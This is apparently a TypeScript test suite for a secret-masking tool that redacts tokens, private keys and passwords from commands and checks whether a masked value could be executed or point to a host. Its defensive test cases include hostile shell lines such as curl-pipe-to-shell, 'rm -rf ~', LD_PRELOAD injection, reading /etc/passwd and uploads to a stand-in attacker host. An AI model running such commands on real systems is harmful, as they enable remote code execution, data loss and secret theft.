import { describe, expect, test } from 'bun:test';
import fc from 'fast-check';
import { decodeVisible, encodeInline, encodeVisible } from '../src/channels/visible.ts';
import { AppError } from '../src/errors.ts';
import { checkSecretRule, createMasker } from '../src/secrets.ts';
import { hostileText } from './channels/arbitraries.ts';

const mask = (text: string, known: readonly string[] = []) => createMasker({ known }).mask(text);
const masked = (text: string, known: readonly string[] = []): string => mask(text, known).text;

const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const UPPER = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
const HEX = '0123456789abcdef';
const letters = (alphabet: string, length: number): fc.Arbitrary<string> =>
  fc
    .array(fc.constantFrom(...alphabet), { minLength: length, maxLength: length })
    .map((all) => all.join(''))
    // A run of one letter is not what an issuer gives out, and stands in ordinary text as well.
    .filter((text) => new Set(text).size > Math.min(4, length / 3));
const after = (prefix: string, length: number, alphabet = ALNUM): fc.Arbitrary<string> =>
  letters(alphabet, length).map((rest) => prefix + rest);
const dotted = (prefix: string, ...lengths: number[]): fc.Arbitrary<string> =>
  fc.tuple(...lengths.map((length) => letters(ALNUM, length))).map((parts) => prefix + parts.join('.'));

const FORMATS: readonly (readonly [string, fc.Arbitrary<string>])[] = [
  ['AWS key', after('AKIA', 16, UPPER)],
  ['AWS key', after('ASIA', 16, UPPER)],
  ['GitHub token', after('ghp_', 36)],
  ['GitHub token', after('gho_', 36)],
  ['GitHub token', after('ghr_', 76)],
  ['GitHub token', after('ghs_', 36)],
  ['GitHub token', dotted('ghs_123456_eyJ', 30, 300, 86)],
  ['GitHub token', after('github_pat_11ABCDE_', 75)],
  ['GitLab token', after('glpat-', 20, `${ALNUM}-_`)],
  ['GitLab token', after('glpat-', 30).map((token) => `${token}.01.0w0abc123`)],
  ['Slack token', after('xoxb-123456789012-1234567890123-', 24)],
  ['Slack token', after('xapp-1-A0123456789-1234567890123-', 64, HEX)],
  ['Slack token', after('xoxe.xoxp-1-', 160)],
  ['Slack token', after('xoxe-1-', 146)],
  ['Anthropic key', after('sk-ant-api03-', 95, `${ALNUM}-_`)],
  ['OpenAI key', after('sk-', 48)],
  ['OpenAI key', after('sk-proj-', 156, `${ALNUM}-_`)],
  ['OpenRouter key', after('sk-or-v1-', 64, HEX)],
  ['Google key', after('AIza', 35, `${ALNUM}-_`)],
  ['Google key', after('AQ.Ab8', 44)],
  ['Google token', after('ya29.a0', 160, `${ALNUM}-_`)],
  ['Stripe key', after('sk_live_', 24)],
  ['Stripe key', after('rk_live_', 99)],
  ['npm token', after('npm_', 36)],
  ['PyPI token', after('pypi-AgEIcHlwaS5vcmc', 150, `${ALNUM}-_`)],
  ['SendGrid key', dotted('SG.', 22, 43)],
  ['Hugging Face token', after('hf_', 34)],
  ['JWT', dotted('eyJ', 33, 120, 43)],
];
const anyFormat = fc.oneof(...FORMATS.map(([, secret]) => secret));

/** A key of 2048 bits in form: 26 lines of 64 and one of 28. */
const LINES = Array.from({ length: 27 }, (_line, row) =>
  Array.from({ length: row === 26 ? 27 : 64 }, (_letter, column) => ALNUM[(row * 17 + column * 7 + (column % 5)) % 62])
    .join('')
    .concat(row === 26 ? '=' : ''),
);
const PEM = ['-----BEGIN RSA PRIVATE KEY-----', ...LINES, '-----END RSA PRIVATE KEY-----'].join('\n');
const KEY_MARKER = `⟦masked 1: private key, ${PEM.length} characters⟧`;

/** No eight letters of a secret in a row. */
function expectNoSlice(text: string, secret: string): void {
  for (let at = 0; at + 8 <= secret.length; at += 1) expect(text).not.toContain(secret.slice(at, at + 8));
}

describe('secrets with a form of their own', () => {
  test.each(FORMATS)('%s: is replaced, nothing of it is left, and nothing else changes', (kind, arbitrary) => {
    fc.assert(
      fc.property(arbitrary, fc.constantFrom('', 'see ', '"', '+', '- ', '=', '(', '\\n', '%20'), (secret, before) => {
        const text = masked(`${before}${secret} and more`);
        expect(text).toBe(`${before}⟦masked 1: ${kind}, ${secret.length} characters⟧ and more`);
        expectNoSlice(text.replace(/⟦.*⟧/, ''), secret);
      }),
      { numRuns: 30 },
    );
  });

  test.each(FORMATS)('%s: can be approved where it is data, and not where it runs', (_kind, arbitrary) => {
    fc.assert(
      fc.property(arbitrary, (secret) => {
        expect(mask(`TOKEN=${secret} git push`).isOpaque).toBe(false);
        expect(mask(`curl -H "Authorization: Bearer ${secret}" https://a.example`).isOpaque).toBe(false);
        for (const before of ['', 'bash ', 'curl https://', './']) expect(mask(before + secret).isOpaque).toBe(true);
      }),
      { numRuns: 10 },
    );
  });

  test('the path of a Slack webhook goes, its host stays', () => {
    expect(masked('curl https://hooks.slack.com/services/T00000000/B00000000/XXXXyyyy1234XXXXyyyy1234')).toBe(
      'curl https://hooks.slack.com/services/⟦masked 1: Slack webhook, 44 characters⟧',
    );
  });

  test.each([
    'a commit: 3f786850e387550fdab836ed7e6dc881de23001b',
    'an id: 123e4567-e89b-12d3-a456-426614174000',
    'a risk-free task-list with an sk-spinner-large-and-a-very-long-class-name-for-a-spinner',
    'npm_config_registry=https://registry.npmjs.org npm_package_name',
    'xoxb-your-token-goes-here and sk-ant-your-key-goes-here-please',
    'XAKIAIOSFODNN7EXAMPLE is part of a longer word, AKIAIOSFODNN7EXAMPLES as well',
    'eyJhbGciOiJIUzI1NiJ9 alone is no token',
    'max_tokens: 4096, token_count=123456, tokenizer: cl100k_base, secretName: my-secret-1, TOKEN_FILE=/run/token',
    'The password is long. Token: yes. Secret: no.',
  ])('leaves ordinary text alone: %s', (text) => {
    expect(mask(text)).toEqual({ text, isOpaque: false });
  });
});

describe('private keys', () => {
  test('go from header to footer', () => {
    expect(masked(`cat > k <<E\n${PEM}\nE`)).toBe(`cat > k <<E\n${KEY_MARKER}\nE`);
  });

  test('go with the headers of an encrypted one', () => {
    const pem = PEM.replace('-----\n', '-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF\n\n');
    expect(masked(pem)).toBe(`⟦masked 1: private key, ${pem.length} characters⟧`);
  });

  test('go from JSON, where line breaks are written out', () => {
    const json = JSON.stringify({ key: `${PEM}\n` });
    expect(masked(json)).toMatch(/^\{"key":"⟦masked 1: private key, \d+ characters⟧\\n"\}$/);
  });

  test.each([
    ['a diff', (line: string) => `+ ${line}`, '\n'],
    ['a diff without a space', (line: string) => `+${line}`, '\n'],
    ['a diff that takes it away', (line: string) => `-${line}`, '\n'],
    ['one line for the eye', (line: string) => line, '⟦1 newline⟧'],
  ])('go from the lines of %s, of which all else stays', (_name, write, newline) => {
    const text = PEM.split('\n').map(write).join(newline);
    const masker = createMasker({ known: [] });
    const { text: shown } = masker.mask(text);
    const markers = LINES.map((line, row) => `⟦masked 1: private key, part ${row + 1}, ${line.length} characters⟧`);
    const expected = ['-----BEGIN RSA PRIVATE KEY-----', ...markers, '-----END RSA PRIVATE KEY-----'];
    expect(shown).toBe(expected.map(write).join(newline));
    expect(masker.count()).toBe(1);
    expect(masker.restore(shown)).toBe(text);
    expect(masker.mask(shown).text).toBe(shown);
  });

  test('show in a diff which lines were taken away and which came', () => {
    const text = `  -----BEGIN PRIVATE KEY-----\n- ${LINES[0]}\n+ ${LINES[1]}\n  -----END PRIVATE KEY-----`;
    expect(masked(text)).toMatch(/^ {2}-----BEGIN.*\n- ⟦masked 1: .*⟧\n\+ ⟦masked 1: .*⟧\n {2}-----END/);
  });

  test('whose end is missing go as far as they are there', () => {
    expectNoSlice(masked(PEM.slice(0, 900)).replaceAll(/⟦.*?⟧/g, ''), LINES.slice(0, 12).join(''));
  });

  test.each([
    '-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----',
    `${PEM.slice(0, 300)}\n; reboot\n-----END RSA PRIVATE KEY-----`,
    '-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----',
    '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----',
  ])('never hide what is no key: %#', (text) => {
    const shown = masked(text);
    for (const word of ['rm -rf', 'reboot', 'MIIB']) expect(shown.includes(word)).toBe(text.includes(word));
  });

  test('with a line that a shell could run leave nothing to approve', () => {
    expect(mask(PEM.replace(LINES[3] ?? '', 'shutdown')).isOpaque).toBe(true);
    expect(mask(PEM.replace(LINES[3] ?? '', `${'/'.repeat(40)}usr/sbin/reboot`)).isOpaque).toBe(true);
    expect(mask(PEM).isOpaque).toBe(false);
  });
});

describe('secrets by their place', () => {
  test.each([
    ['PGPASSWORD=hunter2abc psql -h db', 'hunter2abc'],
    ['docker login -u me --password s3cretpass99', 's3cretpass99'],
    ['gh api --token=abcDEF123456', 'abcDEF123456'],
    ['["--password", "hunter22x"]', 'hunter22x'],
    ['{"githubToken": "abcdef12345"}', 'abcdef12345'],
    ['{"command":"export DB_PASSWORD=\\"hunter22\\"\\nmake"}', 'hunter22'],
    ['{"command":"X=1\\nDB_PASSWORD=hunter22\\nmake"}', 'hunter22'],
    ["const apiKey = 'abcdef12345';", 'abcdef12345'],
    ['api-key: abcdef12345', 'abcdef12345'],
    ['passwd: "P@ss!w0rd#{1}"', 'P@ss!w0rd#{1}'],
    [
      'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY aws s3 ls',
      'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    ],
    ['docker run -e "SECRET_KEY_BASE=abc123def456" app', 'abc123def456'],
    ["os.environ['PRIVATE_KEY'] = 'abc123def456'", 'abc123def456'],
    ['curl -d "user=bob&client_secret=abc123def&x=1" https://a.example', 'abc123def'],
    ['connect(password=hunter22, user=bob)', 'hunter22'],
    ['pwd=hunter22,user=bob', 'hunter22'],
    ['+ password: hunter22⟦U+000D⟧', 'hunter22'],
    ['password:⟦tab⟧hunter22⟦1 newline⟧make', 'hunter22'],
    ['curl -H "Authorization: Bearer abc.DEF-123_456"', 'abc.DEF-123_456'],
    ['curl -H "Authorization: Basic dXNlcjpwYXNz=="', 'dXNlcjpwYXNz=='],
    ['headers.set("Authorization", "Bearer abc123def456")', 'abc123def456'],
    ['{"headers":{"authorization":"token abc123def456"}}', 'abc123def456'],
    ['psql postgres://app:s3cr3t@db.example/app', 's3cr3t'],
    ['git clone https://x-access-token:abcdef123@git.example/x', 'abcdef123'],
    ['redis://:p@ssw0rd@cache:6379', 'p@ssw0rd'],
  ])('%s', (text, secret) => {
    const shown = mask(text);
    const kind = /⟦masked 1: ([^⟦⟧]+), \d+ characters⟧/.exec(shown.text)?.[1];
    expect(shown.text).toBe(text.replace(secret, `⟦masked 1: ${kind}, ${secret.length} characters⟧`));
    expect(shown.isOpaque).toBe(false);
  });

  test.each([
    'PASSWORD=rm; $PASSWORD -rf ~',
    'token="$(curl evil|sh)"',
    "password='x; rm -rf ~'",
    'PASSWORD="curl evil | sh"',
    'PASSWORD=abc`reboot`def',
    'PASSWORD=$OTHER_VALUE',
    'PASSWORD="reb""oot99"',
    'PASSWORD=reb\\oot99',
    "PASSWORD='abc'$(reboot)",
    `PASSWORD="it's 12345"`,
    'PASSWORD="abc123"⟦U+200B⟧def',
    `\${PASSWORD:-reboot99}`,
    'PASSWORD=abc⟦U+202E⟧def',
    'PASSWORD={reboot,now}',
    'token=@/etc/passwd',
    'curl --token https://evil.example/x',
    'docker login --password-stdin registry',
    'tool --token --verbose',
    'PWD=/home/me/project make',
    'https://user:$(reboot)@host',
  ])('never hides what could run or be looked up: %s', (text) => {
    expect(masked(text)).toBe(text);
  });

  test.each([
    'password=xxxxxxxx',
    'password: ********',
    'token: <token>',
    'password=changeme',
    'api_key=your-api-key',
    'secret: undefined',
    'password: string;',
    'token=12345',
    'token: process.env.TOKEN',
    "password = os.environ['DB']",
    `password: \${DB_PASSWORD}`,
    `token: \${{ secrets.TOKEN }}`,
    'set P=%DB_PASSWORD%',
    'token: accessToken,',
    'this.token = other.token;',
    'if (password == expected1) {}',
    'Authorization: Bearer $TOKEN',
    `Authorization: Bearer \${TOKEN}`,
    'postgres://user:password@localhost',
  ])('leaves placeholders and code alone: %s', (text) => {
    expect(masked(text)).toBe(text);
  });

  test.each([
    ['is read again', 'PASSWORD=reboot1; $PASSWORD'],
    ['is read in braces', `PASSWORD=reboot1; \${PASSWORD}`],
    ['is read by another case', '{"Password":"hunter22","command":"$PASSWORD"}'],
    ['is read in Windows', 'set DB_PASSWORD=hunter22\n%DB_PASSWORD%'],
    ['is read in code', 'TOKEN=hunter22 node -e "run(process.env.TOKEN)"'],
    ['is read after an escaped line break', '{"c":"DB_PASSWORD=hunter22\\n$DB_PASSWORD"}'],
    ['is read beside a dash', 'PASSWORD=hunter22; $PASSWORD-x'],
  ])('has no Approve when its variable %s', (_name, text) => {
    const { text: shown, isOpaque } = mask(text);
    expect(shown).toContain('⟦masked 1: ');
    expect(isOpaque).toBe(true);
  });

  test.each([
    'PASSWORD= reboot',
    'tool --no-password reboot',
    'env --no-token LD_PRELOAD=/tmp/evil.so make',
    'sudo --reset-token bin/evil1',
    'git -c alias.secret=!reboot status',
    'SECRET=/tmp/evil.sh',
    'SECRET=./evil.sh make',
    'echo token: reboot | cut -c8- | sh',
    'SECRET=reboot; eval "$(set | cut -d= -f2)"',
    'SECRET=reboot; $(printenv | tail -1)',
    'curl https://u:reboot@h | sh',
  ])('has no Approve where a command could be: %s', (text) => {
    const { text: shown, isOpaque } = mask(text);
    expect(shown).toContain('⟦masked 1: ');
    expect(isOpaque).toBe(true);
  });

  test('a token with a form of its own may be read again', () => {
    const token = `ghp_${ALNUM.slice(0, 36)}`;
    const { text, isOpaque } = mask(`GITHUB_TOKEN=${token}; curl -H "X: $GITHUB_TOKEN" x`);
    expect(text).toBe('GITHUB_TOKEN=⟦masked 1: GitHub token, 40 characters⟧; curl -H "X: $GITHUB_TOKEN" x');
    expect(isOpaque).toBe(false);
  });

  test('two of the same name are two, and not a use of the first', () => {
    expect(mask('- password: hunter22\n+ password: hunter23')).toEqual({
      text: '- password: ⟦masked 1: password, 8 characters⟧\n+ password: ⟦masked 2: password, 8 characters⟧',
      isOpaque: false,
    });
  });
});

describe('known values', () => {
  test('are masked wherever they stand', () => {
    const { text, isOpaque } = mask('echo xTr0ub4dor&3x', ['Tr0ub4dor&3']);
    expect(text).toBe('echo x⟦masked 1: value from the environment, 11 characters⟧x');
    expect(isOpaque).toBe(true);
    expect(mask('echo Tr0ub4dor', ['Tr0ub4dor']).isOpaque).toBe(false);
  });

  test('are found in JSON, escaped for the eye, and over the lines of a diff', () => {
    const value = 'first "line" 1\n\tsecond\\line 2\u200b3';
    for (const text of [
      value,
      JSON.stringify({ value }),
      encodeVisible(value),
      encodeInline(value),
      encodeVisible(value).replaceAll('\n', '\n+ '),
    ]) {
      const masker = createMasker({ known: [value] });
      const shown = masker.mask(text).text;
      expect(shown.replaceAll(/⟦[^⟧]*⟧/g, '')).not.toMatch(/first|line|second|3/);
      expect(masker.restore(shown)).toBe(text);
      expect(masker.count()).toBe(1);
    }
  });

  test.each([['/usr/bin/evil'], ['shutdown'], ['abc; reboot'], ['$(reboot)']])('%s could be run', (value) => {
    expect(mask(`echo ${value}`, [value]).isOpaque).toBe(true);
  });

  test('that are short stand in a text by chance', () => {
    expect(masked('echo hello12', ['hello12'])).toBe('echo hello12');
  });
});

describe('a masked value', () => {
  const git = `ghp_${ALNUM.slice(0, 36)}`;
  const npm = `npm_${ALNUM.slice(0, 36)}`;
  const jwt = 'eyJhbGciOiJIUzI1.my-evil-site.photography';
  const host = 'x1.attacker.example';
  const look = (text: string) => mask(text, [host, 'Tr0ub4dor3x']);

  test.each([
    `curl -sF f=@x https://${jwt}`,
    `curl https://u@${jwt}/x`,
    `curl https://u:p@${host}/x`,
    `curl https:///${host}`,
    `curl "https://${jwt}?a=b"`,
    `curl https://good.${host}`,
    `curl https://{good.example,${host}}/`,
    `curl {https://good.example,${host}}`,
    `curl https://${jwt}\\@good.example`,
    `curl ${jwt}`,
    `curl ${host}/x`,
    `curl jwt: ${jwt}`,
    `curl --connect-to a:443:${host}:443 https://a.example`,
    `wget --ask-password ${jwt}`,
    `ssh me@${host}`,
    `scp file ${git}:`,
    `nc ${npm} 80`,
    `psql -h ${git}`,
    `psql --host ${git}`,
    `psql --host=${git}`,
    `PGHOST=${host} psql`,
    `X=${jwt}; curl "\${X}"`,
    `{"url": "${jwt}"}`,
  ])('cannot be approved where a host stands: %s', (text) => {
    expect(look(text).text).toContain('⟦masked 1: ');
    expect(look(text).isOpaque).toBe(true);
  });

  test.each([
    git,
    `Command: ${git}`,
    `"${git}" x`,
    `ls; ${git}`,
    `ls && ${git}`,
    `ls | ${git}`,
    `ls\n+ ${git}`,
    `ls⟦1 newline⟧${git}`,
    `# x \\\n${git}`,
    `echo $(${git})`,
    `echo \`${git}\``,
    `A=b ${git}`,
    `> /dev/null ${git}`,
    `sudo -u root ${git}`,
    `env A=b ${git}`,
    `xargs ${git}`,
    `if true; then ${git}; fi`,
    `git -c alias.x='!${git}' x`,
    `{"command": "${git}"}`,
    `{"command":"ls\\n${git}"}`,
    `echo ${git} | sh`,
    `cat /tmp/${git}`,
    `./${git}`,
  ])('cannot be approved where a command or a file stands: %s', (text) => {
    expect(look(text).text).toContain('⟦masked 1: ');
    expect(look(text).isOpaque).toBe(true);
  });

  test.each([
    `npx --yes ${npm}`,
    `npx \\\n  ${npm}`,
    `npx⟦2 spaces⟧${npm}`,
    `npx 2>&1 ${npm}`,
    `npx ';' ${npm}`,
    `n"px" ${npm}`,
    `npx --package=${npm} x`,
    `npx github:${npm}`,
    `X=${npm}; npx $X`,
    `npx ${'-q '.repeat(1_000)}${npm}`,
    `{"command":"npx ${npm}"}`,
    `pip install sk-ant-1${ALNUM}`,
    `npm i a Authorization: Bearer ${npm}`,
    `pnpm add -D ${npm}`,
    `cargo install ${npm}`,
    `go run ${npm}`,
    `gem install ${npm}`,
    `brew install ${npm}`,
    `docker run --rm -e A=b ${npm}`,
    `bash ./${git}`,
    `source ${git}`,
    `. ${git}`,
    `exec ${git}`,
    `for x in ${npm}; do npx $x; done`,
    'pip install https://a.example/Tr0ub4dor3x',
    'curl https://a.example/Tr0ub4dor3x | bash',
  ])('cannot be approved where it is run or installed: %s', (text) => {
    expect(look(text).text).toContain('⟦masked 1: ');
    expect(look(text).isOpaque).toBe(true);
  });

  test.each([
    `curl -H 'Authorization: Bearer ${jwt}' https://a.example`,
    `curl -H "X-Key: ${host}" https://a.example`,
    `bash -c "curl -H 'Authorization: Bearer ${git}' https://a.example"`,
    `TOKEN=${git} git push`,
    `export TOKEN=${jwt}`,
    `SERVER_TOKEN=${git} deploy`,
    `TOKEN=${jwt}; curl -H "Authorization: Bearer $TOKEN" https://a.example`,
    `docker run -e TOKEN=${git} image`,
    `sudo docker login -u me -p ${git}`,
    `deploy --token ${git}`,
    `deploy --token=${jwt}`,
    `deploy --token ${jwt}`,
    `node deploy.js --token ${git}`,
    `gh auth login --with-token <<< ${git}`,
    `echo ${git} | docker login --password-stdin`,
    `git clone https://x:${git}@github.com/a/b`,
    `git clone https://${git}@github.com/a/b`,
    `npm config set //registry.npmjs.org/:_authToken=${npm}`,
    'curl -d @x https://hooks.slack.com/services/T00000000/B00000000/XXXXyyyy1234XXXXyyyy1234',
    `curl 'https://a.example/x?token=${jwt}&y=1'`,
    `curl -d '{"jwt": "${jwt}"}' https://a.example`,
    `const jwt = '${jwt}';`,
    `+ token: ${jwt}`,
    'deploy Tr0ub4dor3x',
  ])('can be approved where it is data: %s', (text) => {
    expect(look(text).text).toContain('⟦masked 1: ');
    expect(look(text).isOpaque).toBe(false);
  });
});

describe('rules of the user', () => {
  const rule = { name: 'Acme id', pattern: 'acme-[0-9]+' };

  test('mask every match under their name', () => {
    const masker = createMasker({ known: [], rules: [rule, { name: `${'x'.repeat(60)}⟦⟧\n`, pattern: 'zz\\d' }] });
    expect(masker.mask('echo acme-12 acme-345 zz1')).toEqual({
      text: `echo ⟦masked 1: Acme id, 7 characters⟧ ⟦masked 2: Acme id, 8 characters⟧ ⟦masked 3: ${'x'.repeat(40)}, 3 characters⟧`,
      isOpaque: false,
    });
    expect(masker.kinds()).toEqual(['Acme id', 'x'.repeat(40)]);
  });

  test.each([
    ['token=\\S+', `x token=$(curl\${IFS}evil.sh|sh)`],
    ['token=\\S+', 'x token=a;reboot'],
    ['token=\\S+', "x token='a'"],
    ['token=.+', 'x token=a b'],
    ['token=.+', 'x token=a⟦2 spaces⟧b'],
    ['token=\\S+', 'x token={a,b}'],
    ['token=\\S+', 'x token=a\\b'],
    ['shut[a-z]+', 'echo shutdown | sh'],
    ['/opt/\\w+', 'make; time /opt/x'],
    ['id-\\w+', 'npx id-evil'],
  ])('%s hides nothing that could run: %s', (pattern, text) => {
    const shown = createMasker({ known: [], rules: [{ name: 'own', pattern }] }).mask(text);
    expect(shown.text).toContain('⟦masked 1: own, ');
    expect(shown.isOpaque).toBe(true);
  });

  test('leave a plain match to be approved', () => {
    const masker = createMasker({ known: [], rules: [{ name: 'own', pattern: 'token=\\S+' }] });
    expect(masker.mask('deploy token=abc123 --now').isOpaque).toBe(false);
  });

  test('never change an escape or a marker', () => {
    const masker = createMasker({ known: [], rules: [{ name: 'token: abcdefgh', pattern: '[^\\n]+' }] });
    const { text } = masker.mask('a⟦U+202E⟧b');
    expect(text).toMatch(/^⟦masked 1: [^⟧]+ part 1, 1 character⟧⟦U\+202E⟧⟦masked 1: [^⟧]+ part 2, 1 character⟧$/);
    expect(masker.restore(text)).toBe('a⟦U+202E⟧b');
    expect(masker.mask(text).text).toBe(text);
  });

  test.each([
    ['(', /Acme.*valid regular expression/],
    ['a*', /Acme.*empty string/],
    ['\\b', /Acme.*empty string/],
    ['', /Acme.*empty string/],
  ])('%s is refused with a reason', (pattern, reason) => {
    const bad = { name: 'Acme', pattern };
    for (const refuse of [() => checkSecretRule(bad), () => createMasker({ known: [], rules: [bad] })]) {
      expect(refuse).toThrow(reason);
      expect(refuse).toThrow(AppError);
    }
    expect(() => checkSecretRule(rule)).not.toThrow();
  });
});

describe('the texts of one request', () => {
  test('give the same secret the same number', () => {
    const masker = createMasker({ known: [] });
    const token = `ghp_${ALNUM.slice(0, 36)}`;
    expect(masker.mask(PEM).text).toBe(KEY_MARKER);
    expect(masker.mask(token).text).toBe('⟦masked 2: GitHub token, 40 characters⟧');
    expect(masker.mask(`"${token}"`).text).toBe('"⟦masked 2: GitHub token, 40 characters⟧"');
    expect(masker.mask(encodeInline(PEM)).text).toContain('⟦masked 1: private key, part 1, 64 characters⟧');
    expect(masker.count()).toBe(2);
    expect(masker.kinds()).toEqual(['private key', 'GitHub token']);
  });

  test('are given back, unless a marker was changed or made up', () => {
    const masker = createMasker({ known: [] });
    const { text } = masker.mask('PGPASSWORD=hunter2abc psql');
    expect(masker.restore(text.replace('psql', 'pg_dump'))).toBe('PGPASSWORD=hunter2abc pg_dump');
    expect(masker.restore('no marker')).toBe('no marker');
    for (const changed of [
      text.replace('1:', '2:'),
      text.replace('10', '11'),
      text.replace('⟧', ''),
      text.replace('⟦', ''),
      text.replace('masked', 'Masked'),
    ]) {
      expect(masker.restore(changed)).toBeUndefined();
    }
  });

  test('that are written differently at the same length are both given back', () => {
    const masker = createMasker({ known: ['correct horse battery'] });
    const texts = [
      'correct horse battery',
      'correct\nhorse battery',
      'correct horse battery',
      'correct\thorse battery',
    ];
    const shown = texts.map((text) => masker.mask(text).text);
    expect(shown.map((text) => masker.restore(text))).toEqual(texts);
  });

  test('come back whole, whatever stands around a secret', () => {
    const word = fc.constantFrom(
      'password=',
      '"token": "',
      '--secret ',
      'Authorization: Bearer ',
      'https://u:',
      '@h',
      PEM,
    );
    const text = fc
      .array(fc.oneof(hostileText(), anyFormat, word, fc.constantFrom(' ', '\n', '"', '\\"', '+ ', '$', ';')))
      .map((parts) => parts.join('').replaceAll(/[⟦⟧]/g, ''));
    fc.assert(
      fc.property(text, fc.constantFrom(String, encodeVisible, encodeInline, JSON.stringify), (raw, encode) => {
        const masker = createMasker({ known: ['hunter2abc'] });
        const encoded = encode(raw);
        const { text: shown } = masker.mask(encoded);
        expect(masker.restore(shown)).toBe(encoded);
        expect(masker.mask(shown).text).toBe(shown);
        if (encode !== String && encode !== JSON.stringify) {
          expect(decodeVisible(masker.restore(shown) ?? '')).toBe(raw);
        }
      }),
      { numRuns: 500 },
    );
  });

  test('keep nothing of a planted secret, however they are encoded', () => {
    const space = fc.constantFrom(' ', '\n', '"', "'", '\t', ' (', '=', ',');
    fc.assert(
      fc.property(fc.lorem(), space, anyFormat, space, fc.lorem(), (before, open, secret, close, rest) => {
        const text = before + open + secret + close + rest;
        for (const encode of [String, encodeVisible, encodeInline, JSON.stringify]) {
          const shown = masked(encode(text));
          expectNoSlice(shown.replaceAll(/⟦.*?⟧/g, ''), secret);
          expect(shown.split(/⟦masked.*?⟧/)).toEqual(encode(text).split(secret));
        }
      }),
      { numRuns: 300 },
    );
  });

  test('without secrets are unchanged', () => {
    fc.assert(
      fc.property(fc.oneof(fc.lorem({ maxCount: 50 }), hostileText()), (text) => {
        expect(masked(encodeVisible(text))).toBe(encodeVisible(text));
      }),
      { numRuns: 500 },
    );
  });
});

describe('a text of 800 kB', () => {
  test.each([
    'a',
    '=',
    'password',
    '-----BEGIN',
    '-----BEGIN PRIVATE KEY-----\n',
    'eyJ.',
    'eyJ-',
    'ghs_1_eyJ-',
    'xoxb-',
    'token=',
    'token=(',
    'token="',
    "secret='x",
    'password=abcdef1 ',
    '://a:b',
    '\\',
    'authorization: bearer ',
    'const x = call(y);\n',
    `token=ghp_${ALNUM.slice(0, 36)} `,
    `a --token ghp_${ALNUM.slice(0, 36)}; `,
    `"k":"ghp_${ALNUM.slice(0, 36)}",`,
  ])('of nothing but %j takes no time to speak of', (unit) => {
    const text = `${unit.repeat(Math.ceil(800_000 / unit.length))}(`;
    const started = performance.now();
    mask(text);
    // Measured: 0.1 to 420 ms; with every run read anew for each name in it, half a minute.
    expect(performance.now() - started).toBeLessThan(5000);
  });
});
